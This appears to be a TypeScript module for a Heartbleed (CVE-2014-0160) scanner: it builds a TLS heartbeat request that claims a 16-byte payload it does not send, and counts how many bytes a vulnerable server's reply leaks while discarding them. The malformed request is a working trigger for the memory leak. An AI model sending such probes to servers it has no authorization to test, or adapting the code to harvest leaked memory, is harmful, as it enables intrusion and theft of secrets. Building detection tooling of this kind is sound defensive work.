/** Extension type (RFC 6520, 2) and record type (6). */
export const heartbeatExtension = 15;
const heartbeatRecord = 24;

const requestType = 1;
const responseType = 2;
/** Size of type and length of a message, and minimum padding (RFC 6520, 4), bytes. */
const headBytes = 3;
const paddingBytes = 16;

/** Payload length that a request claims without sending any payload, bytes. */
export const requestedBytes = 16;

/**
 * A heartbeat request that claims a payload of 16 bytes and has none. A server must discard it silently (RFC 6520, 4);
 * a server that responds sends 16 bytes of its memory (CVE-2014-0160).
 * @param version of the handshake, `0x0301` to `0x0303`
 */
export function emptyHeartbeat(version: number): Buffer {
  const message = Buffer.from([requestType, 0, requestedBytes]);
  return Buffer.concat([
    Buffer.from([heartbeatRecord, version >> 8, version & 0xff, 0, message.length]),
    message,
  ]);
}

/**
 * Number of bytes that a response to `emptyHeartbeat` leaked; the bytes themselves are discarded. @param records bytes
 * received after the request; `more` while the next record is incomplete
 */
export function leakedBytes(records: Buffer): number | 'more' {
  let rest = records;
  while (rest.length >= 5) {
    const length = rest.readUInt16BE(3);
    if (rest.length < 5 + length) return 'more';
    const content = rest.subarray(5, 5 + length);
    if (rest[0] === heartbeatRecord) return leakIn(content);
    rest = rest.subarray(5 + length);
  }
  return 'more';
}

function leakIn(message: Buffer): number {
  if (message.length < headBytes || message[0] !== responseType) return 0;
  const carried = Math.max(0, message.length - headBytes - paddingBytes);
  return Math.min(message.readUInt16BE(1), carried);
}
